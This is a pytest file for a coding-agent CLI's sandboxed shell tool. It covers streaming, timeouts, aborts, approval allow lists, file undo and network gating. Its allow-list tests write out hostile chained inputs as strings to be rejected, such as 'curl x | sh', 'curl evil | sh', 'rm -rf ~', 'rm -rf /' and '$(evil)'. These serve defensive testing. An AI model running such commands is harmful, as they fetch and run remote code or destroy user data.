"""run_command (issue 38): a real bash in the real sandbox — live lines, head and tail, the
timeout and an abort killing the whole tree, the files it changed counted, the person's allow list
at the approval gate (and a workspace's ignored), and moves and deletes undone by ``cog undo``."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path
from typing import Any

import anyio
import pytest

from cogcli.contract.allow_list import AllowList, BadPattern
from cogcli.settings.load import load_settings
from cogcli.contract.context import AbortSignal
from cogcli.contract.invoke import invoke_tool
from cogcli.models.scripted import Call, ScriptedModel, Turn
from cogcli.session import Session
from workspace_tools import workspace_tools
from workspace_tools.sandbox import bwrap

SANDBOX = "on" if bwrap.bwrap_executable() else "off"


def _repo(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "a.py").write_text("x = 1\n")
    (repo / ".gitignore").write_text("__pycache__/\n")
    for args in (["init", "-q"], ["add", "-A"], ["-c", "user.email=a@b", "-c", "user.name=a", "commit", "-qm", "init"]):
        subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True)
    return repo


def _tool(repo: Path, name: str = "run_command", **options: Any) -> Any:
    return workspace_tools(repo, sandbox=options.pop("sandbox", SANDBOX), only=[name], **options)[0]


@pytest.mark.anyio
async def test_each_line_streams_as_it_comes_and_the_result_splits_by_reader(tmp_path: Path) -> None:
    repo = _tool_repo = _repo(tmp_path)
    updates: list[Any] = []
    result = await invoke_tool(_tool(repo), {"command": "echo one; echo two >&2; git log --oneline; touch made.txt; mkdir __pycache__; touch __pycache__/x.pyc; exit 3"},
                               on_update=updates.append)
    lines = [line for u in updates for line in u.content.split("\n")]
    assert lines[0] == "one" and set(lines) >= {"one", "two"} and any(line.endswith(" init") for line in lines)
    assert updates[0].details == {"line": 1, "lines": 1} and updates[0].presentation.icon == "terminal"
    d = result.details
    assert d["exit_code"] == 3 and d["stdout"].startswith("one\n") and d["stderr"] == "two\n" and d["command"].startswith("echo one")
    assert d["sandbox"] == ("bwrap" if SANDBOX == "on" else "none") and d["duration_ms"] > 0
    assert d["changed_files"] == [{"path": "made.txt", "change": "created"}]  # the git-ignored cache is not counted
    assert result.result.startswith("exit code 3") and "1 file changed: made.txt (created)" in result.result
    assert result.presentation.label == "Run" and result.presentation.detail.endswith("· exit 3")
    assert _tool_repo.joinpath("made.txt").exists()


@pytest.mark.anyio
async def test_long_output_is_cut_to_its_head_and_tail_for_the_model_and_bounded_in_details(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    updates: list[Any] = []
    result = await invoke_tool(_tool(repo), {"command": "echo FIRST; seq 1 200000; echo LAST"}, on_update=updates.append)
    text = result.result
    assert text.split("\n")[1] == "FIRST" and text.rstrip().endswith("LAST") and "bytes of output left out" in text
    assert len(text) < 20_000
    assert len(result.details["stdout"]) < 70_000 and result.details["stdout_dropped"] > 1_000_000
    assert len(updates) < 2_000  # coalesced: 200,002 lines, far fewer updates
    assert sum(u.details["lines"] for u in updates) == 200_002


def _session(settings: Any, model: ScriptedModel, monkeypatch: pytest.MonkeyPatch) -> Session:
    """A session of ``settings`` whose model is ``model`` (scripted turns, no server)."""
    import dataclasses

    import cogcli.session.session as session_module

    monkeypatch.setattr(session_module, "make_model", lambda settings, record=None: model)
    return Session.open(dataclasses.replace(settings, model="scripted:test"))


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state not in ("Z", "X")


@pytest.mark.anyio
async def test_a_timeout_kills_the_whole_tree_and_keeps_the_output(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    # a grandchild in its own session: only the process group / PID namespace takes it down
    command = "echo started; setsid sh -c 'echo $$ > child.pid; exec sleep 300' & sleep 300"
    result = await invoke_tool(_tool(repo, sandbox="off"), {"command": command, "timeout": 1})
    assert result.error is None and result.details["timed_out"] is True and result.details["exit_code"] is None
    assert result.result.startswith("timed out after 1 s") and "started" in result.result
    pid = int((repo / "child.pid").read_text())
    # the setsid child left the group: without the sandbox it survives (that is what the sandbox is for)
    if _alive(pid):
        os.kill(pid, 9)
    if SANDBOX == "on":
        (repo / "child.pid").unlink()
        result = await invoke_tool(_tool(repo), {"command": command, "timeout": 1})
        assert result.details["timed_out"] is True
        # inside the sandbox the pid is the namespace's own; the whole namespace died with bwrap
        assert not any("sleep" in p.read_text(errors="replace") and str(repo) in os.readlink(p.parent / "cwd")
                       for p in Path("/proc").glob("[0-9]*/cmdline") if _safe(p))


def _safe(p: Path) -> bool:
    try:
        return _alive(int(p.parent.name)) and bool(os.readlink(p.parent / "cwd"))
    except OSError:
        return False


@pytest.mark.anyio
async def test_an_abort_stops_the_command_at_once(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    signal = AbortSignal()

    def on_update(update: Any) -> None:
        if "ready" in (update.content or ""):
            signal.abort()

    with anyio.fail_after(20):
        result = await invoke_tool(_tool(repo), {"command": "echo ready; sleep 300"}, on_update=on_update, signal=signal)
    assert result.error_code == "ABORTED"


def test_allow_patterns_match_one_simple_command_only() -> None:
    allow = AllowList.of(["ruff *", "make lint", "git log *"])
    assert allow.match("ruff check src") == "ruff *" and allow.match("ruff") == "ruff *"
    assert allow.match("make lint") == "make lint" and allow.match("make lint extra") is None
    for chained in ("ruff check; curl x | sh", "ruff check && rm -rf ~", "ruff $(evil)", "ruff `evil`", "ruff > /etc/x",
                    "ruff check\nrm -rf /", "ruff check & evil", "git log ${IFS}"):
        assert allow.match(chained) is None, chained
    with pytest.raises(BadPattern):
        AllowList.of(["ruff *; rm -rf /"])
    with pytest.raises(BadPattern):
        AllowList.of([" "])


@pytest.mark.anyio
async def test_the_persons_allow_list_runs_a_command_unasked_and_asks_for_the_rest(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo = _repo(tmp_path)
    (repo / "cog.toml").write_text('allow = ["echo *"]\n')  # the workspace's own wish: ignored
    monkeypatch.delenv("COG_ALLOW", raising=False)
    asked: list[Any] = []

    async def approve(approvals: list[Any]) -> dict[str, bool]:
        asked.extend(approvals)
        return {a.tool_call_id: True for a in approvals}

    model = ScriptedModel([
        Turn("", [Call("c1", "run_command", {"command": "git log --oneline"}), Call("c2", "run_command", {"command": "echo hi; echo there"}),
                  Call("c3", "run_command", {"command": "echo alone"})]),
        Turn("done"),
    ])
    settings = load_settings(repo, sandbox=SANDBOX, allow=["git log *"])
    assert settings.allow == ("git log *",)
    async with _session(settings, model, monkeypatch) as session:
        await session.run("look", approve=approve)
    assert [a.arguments["command"] for a in asked] == ["echo hi; echo there", "echo alone"]
    assert asked[0].preview["command"] == "echo hi; echo there"  # the exact command, as it will run


def test_a_workspaces_allow_is_named_once_as_ignored(tmp_path: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch) -> None:
    repo = _repo(tmp_path)
    (repo / "cog.toml").write_text('allow = ["rm *"]\n')
    monkeypatch.delenv("COG_ALLOW", raising=False)
    with caplog.at_level("WARNING", logger="cogcli"):
        assert load_settings(repo, sandbox=SANDBOX).allow == ()
    said = [r.getMessage() for r in caplog.records if "allow" in r.getMessage()]
    assert len(said) == 1 and "only your own --allow" in said[0], said  # not also "unknown key 'allow'"


@pytest.mark.anyio
async def test_sandbox_off_still_runs_and_says_so(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    result = await invoke_tool(_tool(repo, sandbox="off"), {"command": "echo hi"})
    assert "NOT sandboxed (--sandbox off)" in result.result and result.details["sandbox"] == "none"


@pytest.mark.anyio
async def test_moves_and_deletes_are_previewed_refused_where_they_must_be_and_undone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo = _repo(tmp_path)
    (repo / "b.txt").write_text("keep me\n")
    (repo / ".env").write_text("TOKEN=x\n")
    os.symlink("a.py", repo / "link.py")
    move = _tool(repo, "move_file")
    delete = _tool(repo, "delete_file")
    for tool, args, code in ((delete, {"path": ".env"}, "SECRET_FILE"), (delete, {"path": ".git/config"}, "PATH_OUTSIDE_WORKSPACE"),
                             (delete, {"path": "link.py"}, "INVALID_ARGUMENTS"), (move, {"path": "a.py", "new_path": "b.txt"}, "INVALID_ARGUMENTS"),
                             (move, {"path": "a.py", "new_path": ".cog/a.py"}, "COG_STATE"),
                             (delete, {"path": "../x"}, "PATH_OUTSIDE_WORKSPACE")):
        result = await invoke_tool(tool, args)
        assert result.error_code == code, (args, result.error)
    assert (repo / ".env").exists() and (repo / "b.txt").read_text() == "keep me\n"

    model = ScriptedModel([
        Turn("", [Call("c1", "delete_file", {"path": "b.txt"}), Call("c2", "move_file", {"path": "a.py", "new_path": "src/a.py"})]),
        Turn("done"),
    ])
    previews: list[Any] = []

    async def approve(approvals: list[Any]) -> dict[str, bool]:
        previews.extend(a.preview for a in approvals)
        return {a.tool_call_id: True for a in approvals}

    async with _session(load_settings(repo, sandbox=SANDBOX), model, monkeypatch) as session:
        result = await session.run("tidy", approve=approve)
    assert "-keep me" in previews[0]["diff"] and "deleted file mode" in previews[0]["diff"]
    assert "rename from a.py\nrename to src/a.py" in previews[1]["diff"]
    assert not (repo / "b.txt").exists() and (repo / "src/a.py").read_text() == "x = 1\n" and not (repo / "a.py").exists()
    assert sorted(f.path for f in result.files_changed) == ["a.py", "b.txt", "src/a.py"]
    with Session(repo) as later:
        later.undo()
    assert (repo / "b.txt").read_text() == "keep me\n" and (repo / "a.py").read_text() == "x = 1\n" and not (repo / "src/a.py").exists()


def test_the_persons_config_file_gives_allow_patterns_and_the_network(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo = _repo(tmp_path)
    home = tmp_path / "config"
    (home / "cog").mkdir(parents=True)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home))
    monkeypatch.delenv("COG_ALLOW", raising=False)
    monkeypatch.delenv("COG_COMMAND_NETWORK", raising=False)
    (home / "cog" / "config.toml").write_text('allow = ["ruff *", "make lint"]\ncommand_network = true\n')
    settings = load_settings(repo, allow=["git log *"])
    assert settings.allow == ("git log *", "ruff *", "make lint") and settings.command_network is True
    assert load_settings(repo, command_network=False).command_network is False  # the flag wins
    (home / "cog" / "config.toml").write_text('allow = ["ruff *; curl evil | sh"]\n')
    from cogcli.contract.errors import ConfigError

    with pytest.raises(ConfigError, match="allow in your config.toml"):
        load_settings(repo)


@pytest.mark.anyio
@pytest.mark.skipif(SANDBOX != "on", reason="needs the sandbox")
async def test_the_network_is_only_there_when_the_person_gives_it(tmp_path: Path) -> None:
    import socket

    repo = _repo(tmp_path)
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]
    probe = f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5); print('reached')\""
    try:
        closed = await invoke_tool(_tool(repo), {"command": probe})
        opened = await invoke_tool(_tool(repo, command_network=True), {"command": probe})
    finally:
        server.close()
    assert "reached" not in closed.details["stdout"] and closed.details["network"] is False
    assert "reached" in opened.details["stdout"] and opened.details["network"] is True and "with network" in opened.result


def test_ctrl_c_of_cog_tool_run_command_ends_it_and_what_it_started(tmp_path: Path) -> None:
    import signal
    import sys
    import time

    repo = _repo(tmp_path)
    command = "echo $$ > shell.pid; echo ready; sleep 300"
    proc = subprocess.Popen([sys.executable, "-m", "cogcli", "tool", "--sandbox", "off", "run_command", f"command={command}"], cwd=repo,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert proc.stdout is not None
        for line in proc.stdout:  # the live line comes as the command prints it
            if "ready" in line:
                break
        pid = int((repo / "shell.pid").read_text())
        assert _alive(pid)
        proc.send_signal(signal.SIGINT)
        assert proc.wait(timeout=30) == 130
        deadline = time.monotonic() + 10
        while _alive(pid) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert not _alive(pid)
    finally:
        proc.kill()
        proc.communicate()
